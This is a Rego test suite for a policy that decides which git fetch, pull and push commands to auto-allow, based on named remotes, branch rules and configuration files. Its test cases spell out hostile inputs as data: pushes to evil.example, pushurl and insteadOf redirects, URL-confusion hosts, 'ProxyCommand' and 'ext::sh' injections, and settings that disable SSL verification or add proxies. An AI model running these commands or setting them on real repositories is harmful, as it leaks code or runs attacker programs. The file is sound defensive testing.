package gate.quiet.remote_test

import data.gate.quiet.remote

repository := {
	"/home/dev/project/.git/HEAD": "ref: refs/heads/fix\n",
	"/home/dev/project/.git/objects/x": "",
	"/home/dev/project/.git/refs/heads/fix": "x",
	"/home/dev/project/.git/packed-refs": "# pack-refs with: peeled fully-peeled sorted \nx refs/heads/fix-main\nx refs/remotes/origin/main\nx refs/tags/nightly\nx refs/stash\n",
	"/home/dev/project/.git/config": concat("\n", [
		"[remote \"origin\"]", "url = git@github.com:acme/app.git", "[remote \"web\"]", "url = https://dev:pw@github.com/acme/lib", "[remote \"port\"]", "url = ssh://git@host.example:2222/x/y.git",
		"[remote \"evil\"]", "url = https://evil.example/acme/app", "[remote \"two\"]", "url = https://github.com/acme/app", "pushurl = https://evil.example/x",
		"[remote \"up\"]", "url = https://github.com/acme/../evil/x", "[remote \"plain\"]", "url = http://github.com/acme/app", "[remote \"old\"]", "url = old:app",
	]),
}

named := ["github.com/acme/*", "host.example:2222/x/y"]

allowed(line) if allowed_in(line, {})

allowed_in(line, more) if {
	event := gate.event({"bash": line, "files": object.union(repository, more), "env": {"HOME": "/home/dev"}})
	count(remote.allow) == 1 with input as event
		with data.gate.params.gate.quiet.remote.on as true
		with data.gate.params.gate.quiet.remote.remotes as named
}

test_off_until_it_is_switched_on_and_remotes_are_named if {
	event := gate.event({"bash": "git fetch origin", "files": repository, "env": {"HOME": "/home/dev"}})
	count(remote.allow) == 0 with input as event
	count(remote.allow) == 0 with input as event with data.gate.params.gate.quiet.remote.on as true
	count(remote.allow) == 0 with input as event with data.gate.params.gate.quiet.remote.remotes as named
	allowed("git fetch origin")
}

test_allows_known_remotes if {
	every line in [
		"git fetch", "git fetch origin", "git fetch -p origin main", "git fetch web", "git fetch port", "git pull --ff-only", "git pull --ff-only origin main", "git push", "git push origin fix",
		"git push -u origin HEAD", "git push origin fix-main", "git push web fix", "git add x.go && git commit -m x && git push origin fix", "git fetch && git log --oneline -3", "cd src && git push origin fix 2>&1 | tail -3",
	] {
		allowed(line)
	}
}

test_does_not_allow_another_remote if {
	every line in [
		"git fetch evil", "git push evil fix", "git fetch two", "git push two fix", "git fetch up", "git push up fix", "git fetch plain", "git push plain fix", "git fetch old", "git fetch elsewhere",
		"git push https://github.com/acme/app fix", "git push git@evil.example:x fix", "git fetch ../x", "git fetch /tmp/x", "git push . fix", "git fetch --all", "git push --repo=evil", "git push \"$R\" fix",
		"git pull --ff-only evil main", "git fetch ext::sh", "git fetch file:///tmp/x", "git remote add x https://github.com/acme/app && git fetch x", "git fetch --multiple origin evil",
	] {
		not allowed(line)
	}
}

test_does_not_allow_more_than_adding if {
	every line in [
		"git push origin main", "git push origin master", "git push origin release/1.2", "git push origin refs/tags/v1", "git push origin HEAD:refs/heads/x", "git pull --ff", "git push --verb origin fix",
		"git push -f origin fix", "git push --force-with-lease origin fix", "git push origin +fix", "git push origin :fix", "git push -d origin fix", "git push --mirror origin", "git push --all origin",
		"git push --tags origin", "git push origin fix:main", "git push --follow-tags", "git push --prune origin", "git push --no-verify origin fix", "git push -o x origin fix", "git push --receive-pack=x origin fix",
		"git pull", "git pull --rebase", "git pull --ff-only --rebase", "git pull --no-ff", "git fetch origin main:main", "git fetch --upload-pack=x origin",
		"git fetch --recurse-submodules origin", "git fetch origin '+refs/*:refs/*'", "git push origin \"$B\"", "git push -n origin fix", "git clone https://github.com/acme/app", "git status", "ls",
		"git push origin fix; make", "git -c core.sshCommand=x push origin fix", "GIT_SSH_COMMAND=x git fetch origin", "git submodule update", "git push origin fix && rm x",
	] {
		not allowed(line)
	}
}

test_pushes_local_branches_only if {
	every name in ["fix", "fix-main", "HEAD"] {
		allowed(sprintf("git push origin %s", [name]))
	}
	every name in ["nightly", "tags/nightly", "heads/fix", "refs/heads/fix", "origin/main", "stash", "ORIG_HEAD", "FETCH_HEAD", "other", "x/../fix", "fix nightly"] {
		not allowed_in(sprintf("git push origin %s", [name]), {"/home/dev/project/.git/ORIG_HEAD": "x", "/home/dev/project/.git/FETCH_HEAD": "x"})
	}

	# A branch whose name has a second meaning.
	every file in ["refs/tags/fix", "refs/remotes/fix", "refs/fix", "fix"] {
		not allowed_in("git push origin fix", {sprintf("/home/dev/project/.git/%s", [file]): "x"})
	}
	every ref in ["refs/tags/fix", "refs/remotes/fix"] {
		not allowed_in("git push origin fix", {"/home/dev/project/.git/packed-refs": sprintf("x %s\n", [ref])})
	}
}

test_does_not_push_to_a_branch_of_another_name if {
	every line in ["git push", "git push origin fix", "git push -u origin HEAD"] {
		every mode in ["upstream", "tracking", "matching", "Simple", "x"] {
			not allowed_in(line, {"/home/dev/.gitconfig": sprintf("[push]\ndefault = %s\n", [mode])})
		}
		every mode in ["simple", "current"] {
			allowed_in(line, {"/home/dev/.gitconfig": sprintf("[push]\ndefault = %s\n[branch \"fix\"]\nmerge = refs/heads/fix\n[branch \"other\"]\nmerge = refs/heads/main\n", [mode])})
			not allowed_in(line, {"/home/dev/.gitconfig": sprintf("[push]\ndefault = %s\n[branch \"fix\"]\nmerge = refs/heads/main\n", [mode])})
		}
		not allowed_in(line, {"/home/dev/.gitconfig": "[branch \"fix\"]\nmerge = refs/heads/fix\nmerge = refs/heads/main\n"})
	}
}

test_does_not_allow_an_address_that_others_read_otherwise if {
	every url in [
		"https://evil.example#@github.com/acme/app", "https://evil.example?@github.com/acme/app", "https://evil.example\\\\@github.com/acme/app", "https://a@b@github.com/acme/app",
		"https://github.com@evil.example/acme/app", "https://github.com:@evil.example/acme/app", "ssh://-oProxyCommand=x@github.com/acme/app", "ssh://-oProxyCommand=x/acme/app",
		"ext::sh -c x", "https://github.com/acme/app?x=@evil", "https://github.com/acme/../evil/app", "https://evil.example/@github.com/acme/app", "git@evil.example:github.com/acme/app",
		"https://github.com.evil.example/acme/app", "https://github.com%2eevil.example/acme/app", "http://github.com/acme/app", "file:///tmp/github.com/acme/app", "https://[::1]/acme/app",
	] {
		config := sprintf("[remote \"origin\"]\nurl = \"%s\"\n", [url])
		not allowed_in("git fetch origin", {"/home/dev/project/.git/config": config})
		not allowed_in("git push origin fix", {"/home/dev/project/.git/config": config})
	}
}

# Settings that lead to another peer, past its certificate or to other refs, and all that
# nobody knows.
test_does_not_allow_settings_that_are_not_on_the_list if {
	every text in [
		"[http]\nproxy = http://evil.example\n", "[remote \"origin\"]\nproxy = http://evil.example\n", "[http \"https://github.com\"]\nproxy = x\n", "[http]\ncurloptResolve = github.com:443:1.2.3.4\n",
		"[http]\nsslVerify = false\n", "[http \"https://github.com/\"]\nsslVerify = false\n", "[http]\nsslCAInfo = /tmp/x\n", "[http]\nsslCAPath = /tmp\n", "[http]\nextraHeader = x\n",
		"[http]\ncookieFile = x\n", "[http]\nfollowRedirects = true\n", "[core]\ngitProxy = x\n", "[core]\naskPass = x\n", "[remote \"origin\"]\nmirror = true\n", "[remote \"origin\"]\npush = +refs/heads/*\n",
		"[remote \"origin\"]\nfetch = +refs/heads/*:refs/heads/*\n", "[remote \"origin\"]\nfetch = +refs/*:refs/*\n", "[remote \"origin\"]\nfetch = refs/heads/x:refs/heads/y\n",
		"[remote \"origin\"]\nfetch = +refs/heads/*:refs/remotes/other/*\n", "[push]\ndefault = matching\n", "[push]\nfollowTags = true\n", "[push]\nrecurseSubmodules = on-demand\n",
		"[fetch]\nrecurseSubmodules = true\n", "[fetch]\npruneTags = true\n", "[submodule]\nrecurse = true\n", "[protocol \"ext\"]\nallow = always\n", "[trace2]\neventTarget = /tmp/x\n", "[extensions]\nrefStorage = reftable\n",
		"[url \"git@github.com:acme/\"]\npushInsteadOf = https://evil.example/\n[remote \"origin\"]\nurl = https://evil.example/app\n", "[frobnicate]\nx = y\n", "[core]\nfrobnicate = y\n",
	] {
		every line in ["git fetch origin; git push origin fix"] {
			not allowed_in(line, {"/home/dev/.gitconfig": text})
		}
	}
	allowed_in("git fetch origin; git push origin fix", {"/home/dev/.gitconfig": concat("\n", [
		"[user]", "name = dev", "[push]", "default = simple", "autoSetupRemote = true", "[http]", "sslVerify = true", "[remote \"origin\"]", "fetch = +refs/heads/*:refs/remotes/origin/*", "prune = true", "[pull]", "ff = only", "",
	])})
	every name in ["GIT_SSL_NO_VERIFY", "https_proxy", "HTTPS_PROXY", "SSL_CERT_FILE", "GIT_CONFIG_COUNT", "GIT_CONFIG_NOSYSTEM", "GIT_SSL_CAINFO"] {
		event := gate.event({"bash": "git fetch origin", "files": repository, "env": {"HOME": "/home/dev", name: "1"}})
		count(remote.allow) == 0 with input as event
			with data.gate.params.gate.quiet.remote.on as true
			with data.gate.params.gate.quiet.remote.remotes as named
	}
	every text in ["Host github.com\nHostName evil.example\n", "Host *\nProxyJump x\n", "Match exec x\n", "Host *\nControlPath /tmp/x\n", "StrictHostKeyChecking no\n", "UserKnownHostsFile /dev/null\n", "Include x\n", "Port 22\n"] {
		not allowed_in("git fetch origin", {"/home/dev/.ssh/config": text})
	}
	allowed_in("git fetch origin", {"/home/dev/.ssh/config": "# mine\nHost *\n\tIdentityFile ~/.ssh/id\n\tAddKeysToAgent=yes\n"})
}

test_does_not_allow_where_something_starts_a_program if {
	every text in [
		"[core]\nsshCommand = x\n", "[url \"ext::x \"]\ninsteadOf = git@\n", "[remote \"origin\"]\nuploadpack = x\nreceivepack = x\n", "[core]\nhooksPath = x\n",
		"[url \"https://evil.example/\"]\ninsteadOf = git@github.com:\n", "[url \"https://evil.example/\"]\npushInsteadOf = git@github.com:\ninsteadOf = git@github\n",
		"[remotes]\norigin = evil\n", "[remote \"origin\"]\nvcs = x\n", "[branch \"fix\"]\nmergeOptions = -s x\n[push]\ngpgSign = true\n",
	] {
		every line in ["git fetch origin; git pull --ff-only origin fix; git push origin fix"] {
			not allowed_in(line, {"/home/dev/.gitconfig": text})
		}
	}
	not allowed_in("git push origin fix", {"/home/dev/project/.git/hooks/pre-push": "x"})
	not allowed_in("git pull --ff-only", {"/home/dev/project/.git/hooks/post-merge": "x"})
	not allowed_in("git fetch origin", {"/home/dev/.ssh/config": "Host *\nProxyCommand x\n"})
	not allowed_in("git fetch origin", {"/home/dev/project/.git/remotes/origin": "URL: https://evil.example/x\n"})
	not allowed_in("git fetch web", {"/home/dev/.gitconfig": "[credential]\nhelper = ./x\n"})
	allowed_in("git fetch origin", {"/home/dev/.gitconfig": "[credential]\nhelper = ./x\n"})
}

test_does_not_allow_a_secret_that_goes_along if {
	event := gate.event({"bash": "git push origin fix", "files": repository, "env": {"HOME": "/home/dev"}})
	carries := json.patch(event, [{"op": "add", "path": "/flow", "value": [{"origin": "secret", "effect": "git.push"}]}])
	count(remote.allow) == 0 with input as carries
		with data.gate.params.gate.quiet.remote.on as true
		with data.gate.params.gate.quiet.remote.remotes as named
}

push := {
	"kind": "git.push", "branches_from": "refspec", "branches": ["fix"], "force": false, "lease": false, "all": false, "mirror": false, "tags": false,
	"delete": false,
}

test_expects_no_push_to_a_branch_that_others_work_on if {
	every branch in ["fix", "feature/main", "mainly", "my-release", "develop2"] {
		remote.expected(object.union(push, {"branches": [branch]}))
	}
	every branch in ["main", "Master", "trunk", "develop", "staging", "production", "gh-pages", "HEAD", "release/1.2", "releases", "hotfix-1", "v1.2", "1.x", "refs/heads/fix", null] {
		not remote.expected(object.union(push, {"branches": [branch]}))
		not remote.expected(object.union(push, {"branches": ["fix", branch]}))
	}
}

# A fetch writes no file of the project.
test_only_a_pull_writes_files if {
	write := {"kind": "fs.write", "area": "project", "command": 1}
	path := {"path": "/home/dev/project/x", "access": "write", "command": 1}
	every line, holds in {"git fetch origin": false, "git pull --ff-only": true, "git push origin fix": false} {
		event := gate.event({"bash": line, "files": repository, "env": {"HOME": "/home/dev"}})
		{true | remote.expected(write) with input as event} == {true | holds}
		{true | remote.known(path) with input as event} == {true | holds}
	}
}
